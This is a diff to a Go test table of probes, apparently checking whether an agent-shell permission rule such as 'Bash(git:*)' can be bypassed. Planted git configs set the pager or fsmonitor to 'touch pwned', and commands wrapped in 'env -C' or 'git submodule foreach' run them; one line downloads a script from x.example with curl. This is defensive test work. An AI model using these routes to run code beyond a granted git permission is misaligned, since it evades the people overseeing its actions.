@@ -146,6 +146,11 @@ var configProbes = []routeProbe{
 	probe("HOME under env", `mkdir h && printf '[core]\n\tpager = touch pwned\n' > h/.gitconfig`, true, "env HOME=h git -p log").inBypass(),
 	probe("XDG_CONFIG_HOME=. reads git/config", `mkdir -p git && printf '[core]\n\tpager = touch pwned\n' > git/config`, true, "XDG_CONFIG_HOME=. git -p log").inBypass(),
 	probe("XDG_CONFIG_HOME exported", `mkdir -p git && printf '[core]\n\tfsmonitor = touch pwned\n' > git/config`, true, "export XDG_CONFIG_HOME=$PWD; git status").inBypass(),
+	// env -C runs its command in another directory: git finds the repository there.
+	probe("env -C into a bare repo", bareRepo+`printf '[core]\n\tfsmonitor = touch pwned\n' > m/config`, true, "env -C m git status"),
+	probe("env --chdir= into a bare repo", bareRepo+`printf '[core]\n\tfsmonitor = touch pwned\n' > m/config`, true, "env --chdir=m git status"),
+	probe("env -i -C with an assignment", nestedRepo+`git -C sub config core.pager 'touch pwned'`, true, "env -i -C sub FOO=1 git -p log"),
+	lookAlike("env -C into a plain nested repo under Bash(git:*)", nestedRepo+"true", "", "env -C sub git status"),
 	// git submodule foreach runs any command: a rule on git does not cover it.
 	probe("submodule foreach, a script", "", true, "git submodule foreach 'python3 x.py'").inBypass(),
 	probe("submodule foreach, words", "", true, "git submodule foreach --recursive curl -s https://x.example/i.sh -o i.sh").inBypass(),
